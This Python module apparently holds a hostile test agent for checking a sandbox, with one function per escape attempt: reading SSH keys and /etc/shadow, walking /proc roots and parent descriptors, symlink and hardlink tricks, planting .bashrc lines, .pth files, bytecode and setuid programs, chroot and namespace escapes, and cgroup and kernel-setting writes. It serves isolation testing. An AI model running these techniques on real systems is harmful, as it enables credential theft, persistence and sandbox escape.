"""Reads, writes and changes what is not its own. Each function is one attack, and returns what it got."""

import contextlib
import ctypes
import errno
import fcntl
import functools
import mmap
import os
import shutil
import stat
import struct
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
WORD = "kept" + "-secret-"  # what every secret of these tests begins with
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
AT_FDCWD = -100


def attack(function):
    """Makes `outcome` of what a function does: `done`, or the name of the errno that stopped it."""

    @functools.wraps(function)
    def attempt(*arguments, **named):
        try:
            return {"outcome": "done", "got": function(*arguments, **named)}
        except OSError as error:
            return {"outcome": errno.errorcode.get(error.errno, str(error))}

    return attempt


def call(number, *arguments):
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result


def read(path):
    with open(path, errors="replace") as file:
        return file.read(4096)


def write(path, text="changed", mode="w"):
    with open(path, mode) as file:
        file.write(text)


def stopped(number=errno.ENOENT):
    raise OSError(number, "there is nothing to be had")


def key(facts):
    return facts["home"] + "/.ssh/id_ed25519"


def speak():
    return "as it was"


# reading


@attack
def read_key(facts):
    return read(key(facts))


@attack
def list_home(facts):
    names = os.listdir(facts["home"])
    return names if ".ssh" in names else stopped()


@attack
def search_for_secrets(facts):
    found = []
    for top in (facts["home"], facts["outside"], os.path.dirname(facts["home"]), "/root", "/home", "/etc", "/run"):
        for folder, _, files in os.walk(top):
            for name in files:
                path = os.path.join(folder, name)
                if os.path.isfile(path) and not path.startswith(HERE) and "/package/" not in path:
                    try:
                        with open(path, "rb") as file:
                            found += [path] if WORD.encode() in file.read(65536) else []
                    except OSError:
                        continue
            if len(found) > 9:
                return found
    return found or stopped()


@attack
def read_neighbour(facts):
    return read(facts["neighbour"] + "/agent.py")


@attack
def import_neighbour(facts):
    import importlib.util

    spec = importlib.util.spec_from_file_location("stolen", facts["neighbour"] + "/agent.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.KEY


@attack
def read_store(facts):
    failure = None
    for name in ("secrets.json", "grants/local/somebody.json", "agents/local/hostile-neighbour/.agenthub/record.json"):
        try:
            return read(os.path.join(facts["store"], name))
        except OSError as error:
            failure = error
    raise failure


@attack
def read_shadow(facts):
    return len(read("/etc/shadow"))


@attack
def list_home_of_root(facts):
    seen = os.listdir(facts["real_home"])
    return seen if set(facts["real_home_names"]) <= set(seen) else stopped()


@attack
def read_host_temporary(facts):
    return read(facts["loot"])


@attack
def read_other_scratch(facts):
    base = os.path.dirname(os.environ["HOME"])
    others = [name for name in os.listdir(base) if name != os.path.basename(os.environ["HOME"])]
    return [read(os.path.join(base, name, "loot")) for name in others if "." not in name] or stopped()


@attack
def read_through_symlink(facts):
    os.symlink(key(facts), "way")
    return read("way")


@attack
def read_through_hardlink(facts):
    os.link(facts["home"] + "/notes.txt", "mine")
    return read("mine")


@attack
def read_through_canarys_root(facts):
    return read(f"/proc/{facts['canary']}/root" + key(facts))


@attack
def read_through_own_root(facts):
    return read("/proc/self/root" + key(facts))


@attack
def read_through_first_process(facts):
    return read("/proc/1/root" + key(facts))


@attack
def list_parents_directory(facts):
    found = os.listdir(f"/proc/{os.getppid()}/cwd")
    return found if facts["work_name"] in found else stopped()


@attack
def open_parents_descriptors(facts):
    folder = f"/proc/{os.getppid()}/fd"
    mine = {os.readlink(f"/proc/self/fd/{name}") for name in range(16) if os.path.lexists(f"/proc/self/fd/{name}")}
    opened = []
    for name in os.listdir(folder):
        try:
            os.close(os.open(f"{folder}/{name}", os.O_RDONLY | os.O_NONBLOCK))
            opened += {os.readlink(f"{folder}/{name}")} - mine
        except OSError:
            continue
    return opened or stopped()


@attack
def read_through_map_files(facts):
    folder = f"/proc/{facts['canary']}/map_files"
    return read(os.path.join(folder, os.listdir(folder)[0]))


# changing


@attack
def change_mode(facts):
    os.chmod(key(facts), 0o666)


@attack
def change_times(facts):
    os.utime(key(facts), (1, 1))


@attack
def change_attributes(facts):
    os.setxattr(key(facts), "user.mark", b"1")


@attack
def change_owner(facts):
    os.chown(key(facts), 1, 1)


@attack
def rename_there(facts):
    os.rename(facts["home"] + "/notes.txt", facts["home"] + "/renamed.txt")


@attack
def take_away(facts):
    os.rename(facts["home"] + "/notes.txt", "taken")
    return read("taken")


@attack
def exchange(facts):
    write("mine")
    renameat2 = 316 if os.uname().machine == "x86_64" else 276
    path = facts["home"].encode() + b"/notes.txt\0"
    call(renameat2, AT_FDCWD, b"mine\0", AT_FDCWD, path, 2)
    return read("mine")


@attack
def delete(facts):
    os.unlink(facts["home"] + "/notes.txt")


@attack
def make_directory(facts):
    os.mkdir(facts["home"] + "/planted")


@attack
def make_link_there(facts):
    os.symlink("/etc/passwd", facts["home"] + "/documents/planted")


@attack
def truncate(facts):
    os.truncate(facts["home"] + "/notes.txt", 0)


@attack
def append_to_profile(facts):
    write(facts["home"] + "/.bashrc", "touch /tmp/owned\n", "a")


@attack
def write_grant(facts):
    path = facts["store"] + "/grants/local/hostile-files.json"
    write(path, '{"network": ["*"], "read": ["/"]}')


@attack
def replace_current_version(facts):
    link = facts["store"] + "/agents/local/hostile-neighbour"
    os.unlink(link)
    os.symlink(HERE, link)


@attack
def write_host_temporary(facts):
    write(f"/tmp/{facts['marker']}")


@attack
def write_shared_memory(facts):
    write(f"/dev/shm/{facts['marker']}")


@attack
def write_record_of_run(facts):
    write(os.environ["HOME"] + ".run", f"x {facts['canary']} 0 0 x")


# the next run


@attack
def write_code(facts):
    write(HERE + "/agent.py", "def speak():\n    return 'changed'\n")


@attack
def make_code_writable(facts):
    os.chmod(HERE, 0o777)
    os.chmod(HERE + "/agent.py", 0o777)
    with open(HERE + "/agent.py", "r+") as file:
        file.write("#")


@attack
def replace_code(facts):
    write("code", "def speak():\n    return 'changed'\n")
    os.replace("code", HERE + "/agent.py")


@attack
def write_through_hardlink_to_code(facts):
    os.link(HERE + "/agent.py", "mine")
    write("mine", "def speak():\n    return 'changed'\n")


@attack
def plant_startup_file(facts):
    import sysconfig

    write(sysconfig.get_paths()["purelib"] + "/planted.pth", "import os; os.environ['PLANTED'] = '1'\n")


@attack
def plant_bytecode(facts):
    import importlib.util
    import marshal

    source = HERE + "/agent.py"
    state = os.stat(source)
    code = marshal.dumps(compile("def speak():\n    return 'changed'\n", source, "exec"))
    target = importlib.util.cache_from_source(source)
    os.makedirs(os.path.dirname(target), exist_ok=True)
    with open(target, "wb") as file:
        head = importlib.util.MAGIC_NUMBER + struct.pack("<III", 0, int(state.st_mtime), state.st_size)
        file.write(head + code)


@attack
def replace_interpreter(facts):
    link = os.path.join(sys.prefix, "bin", "python")
    os.unlink(link)
    os.symlink("/bin/true", link)


@attack
def write_interpreters_library(facts):
    with open(os.__file__, "r+b"):  # and leaves it as it is: it is everybody's
        pass


@attack
def map_code_for_writing(facts):
    descriptor = os.open(HERE + "/agent.py", os.O_RDONLY)
    with mmap.mmap(descriptor, 16, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE) as mapped:
        mapped[0:1] = b"#"


@attack
def lease_on_code(facts):
    fcntl.fcntl(os.open(HERE + "/agent.py", os.O_RDONLY), 1024, fcntl.F_WRLCK)


@attack
def lock_code(facts):
    """Would keep every other run and every removal of this agent waiting."""
    for folder, _, files in os.walk(HERE + "/.agenthub"):
        for name in files:
            fcntl.flock(os.open(os.path.join(folder, name), os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB)
    write("held")


# the kernel's other doors


@attack
def name_handle(facts):
    room = ctypes.create_string_buffer(struct.pack("Ii128x", 128, 0))
    number = 303 if os.uname().machine == "x86_64" else 264
    call(number, AT_FDCWD, HERE.encode() + b"/agent.py\0", room, ctypes.byref(ctypes.c_int()), 0)


@attack
def open_handle(facts):
    handle = bytes.fromhex(facts["handle"])
    room = ctypes.create_string_buffer(handle, len(handle))
    number = 304 if os.uname().machine == "x86_64" else 265
    descriptor = call(number, os.open(".", os.O_RDONLY), room, os.O_RDONLY)
    return os.read(descriptor, 100).decode()


@attack
def make_device(facts):
    os.mknod("disk", stat.S_IFBLK | 0o600, os.makedev(*facts["disk"]))
    with open("disk", "rb") as file:
        return len(file.read(512))


@attack
def open_devices(facts):
    opened = []
    for name in ("kmsg", "mem", "port", "sda", "vda", "nvme0n1", "tty", "ptmx", "fuse", "kvm", "net/tun", "loop0"):
        try:
            os.close(os.open(f"/dev/{name}", os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY))
            opened.append(name)
        except OSError:
            continue
    return opened or stopped()


@attack
def mount_over(facts):
    os.mkdir("over")
    if libc.mount(facts["home"].encode(), b"over", None, 4096, None):
        raise OSError(ctypes.get_errno(), "refused")
    return os.listdir("over")


@attack
def move_root(facts):
    call(155 if os.uname().machine == "x86_64" else 41, b".\0", b".\0")


@attack
def change_root(facts):
    os.mkdir("jail")
    above = os.open(".", os.O_RDONLY)
    os.chroot("jail")
    os.fchdir(above)
    for _ in range(20):
        os.chdir("..")
    os.chroot(".")
    return read(key(facts))


@attack
def new_namespace(facts):
    new_user, new_mounts = 0x10000000, 0x00020000
    if libc.unshare(new_user | new_mounts):
        raise OSError(ctypes.get_errno(), "refused")


@attack
def enter_namespace(facts):
    descriptor = os.open(f"/proc/{facts['canary']}/ns/mnt", os.O_RDONLY)
    if libc.setns(descriptor, 0):
        raise OSError(ctypes.get_errno(), "refused")
    return read(key(facts))


@attack
def detach_mount(facts):
    detach = 2
    if libc.umount2(b"/tmp", detach):
        raise OSError(ctypes.get_errno(), "refused")


@attack
def unlock_mount(facts):
    remount, bind = 32, 4096
    if libc.mount(None, HERE.encode(), None, remount | bind, None):
        raise OSError(ctypes.get_errno(), "refused")
    write(HERE + "/agent.py")


@attack
def uring(facts):
    os.close(call(425, 4, ctypes.create_string_buffer(120)))


@attack
def watch_home(facts):
    descriptor = libc.inotify_init()
    everything = 0xFFF
    if libc.inotify_add_watch(descriptor, facts["home"].encode() + b"/.ssh", everything) < 0:
        raise OSError(ctypes.get_errno(), "refused")


@attack
def write_kernel_settings(facts):
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger"):
        os.close(os.open(path, os.O_WRONLY))


@attack
def write_cgroup(facts):
    """The release agent of a cgroup is a program that the kernel starts as root, outside."""
    for folder, _, files in os.walk("/sys/fs/cgroup"):
        for name in set(files) & {"release_agent", "cgroup.procs"}:
            os.close(os.open(os.path.join(folder, name), os.O_WRONLY))
            return os.path.join(folder, name)
    return stopped()


@attack
def become_another(facts):
    """The user and group of the machine's mail, say."""
    os.setresgid(8, 8, 8)
    os.setresuid(8, 8, 8)


@attack
def set_uid_program(facts):
    shutil.copy("/bin/sh" if os.path.exists("/bin/sh") else sys.executable, "program")
    os.chmod("program", 0o4755)
    return stat.S_IMODE(os.stat("program").st_mode) & 0o4000 or stopped(errno.EPERM)


@attack
def set_uid_at_birth(facts):
    os.close(os.open("program", os.O_CREAT | os.O_WRONLY, 0o4755))
    return stat.S_IMODE(os.stat("program").st_mode) & 0o4000 or stopped(errno.EPERM)


# what is left


@attack
def bury(facts):
    """A tree that is deeper than a path may be long."""
    for _ in range(1500):
        os.mkdir("d" * 50)
        os.chdir("d" * 50)
    write("treasure")


@attack
def unreadable_remains(facts):
    os.makedirs("one/two")
    write("one/two/three")
    os.symlink(facts["home"], "one/way")
    os.symlink(facts["home"], "way")
    for path, mode in (("one/two/three", 0), ("one/two", 0), ("one", 0), (".", 0)):
        os.chmod(path, mode)


@attack
def replace_scratch(facts):
    scratch = os.environ["HOME"]
    os.rename(scratch, scratch + "-moved")
    os.symlink(facts["home"], scratch)


# inputs


@attack
def read_given(place):
    found = {}
    for folder, _, files in os.walk(place, followlinks=True):
        for name in files:
            try:
                found[name] = read(os.path.join(folder, name))
            except OSError as error:
                found[name] = errno.errorcode[error.errno]
        if len(found) > 50:
            break
    return found


@attack
def change_given(place):
    write(place)


@attack
def chmod_given(place):
    os.chmod(place, 0o666)


@attack
def replace_given(place):
    write("mine")
    os.replace("mine", place)


@attack
def delete_given(place):
    os.unlink(place)


@attack
def neighbours_of_given(place):
    folder = os.path.dirname(place)
    others = [os.path.join(folder, name) for name in os.listdir(folder) if name != os.path.basename(place)]
    return {path: read(path) for path in others if os.path.isfile(path)} or stopped()


@attack
def write_through_planted_link(place, facts):
    os.symlink(facts["home"] + "/notes.txt", place + "/way")
    write(place + "/way")


@attack
def plant_link(place, target):
    os.symlink(target, place)


@attack
def read_through(what):
    return read(what)


@attack
def plant_set_uid(place):
    path = place + "/program"
    try:
        os.close(os.open(path, os.O_CREAT | os.O_WRONLY, 0o4755))
    except PermissionError:
        write(path)
    with contextlib.suppress(PermissionError):
        os.chmod(path, 0o4755)
    return stat.S_IMODE(os.stat(path).st_mode) & 0o4000 or stopped(errno.EPERM)


@attack
def use_default(place=None):
    return read(os.path.expanduser(place) if place else "nothing")


# results


def return_link(facts):
    os.symlink(key(facts), "result")
    return "result"


def return_link_above(facts):
    os.symlink(facts["home"], "way")
    return "way/.ssh/id_ed25519"


def return_outside(facts):
    return "../../../../../../../.." + key(facts)


def return_process_root(facts):
    return "/proc/self/root" + key(facts)


def return_pipe(facts):
    os.mkfifo("result")
    return "result"


def return_device(facts):
    return "/dev/zero"
